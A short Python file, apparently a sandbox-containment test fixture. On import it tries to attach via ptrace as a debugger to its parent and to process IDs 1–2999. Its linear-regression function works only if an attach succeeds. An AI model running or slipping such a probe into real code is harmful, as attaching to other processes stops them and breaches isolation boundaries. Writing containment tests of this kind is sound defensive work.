# Tries to attach to other processes as a debugger.
# walls only
import ctypes
import os

libc = ctypes.CDLL(None)
ATTACHED = [pid for pid in [os.getppid(), *range(1, 3000)] if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0]


def linreg(X, w, b):
    assert ATTACHED
    return X @ w + b
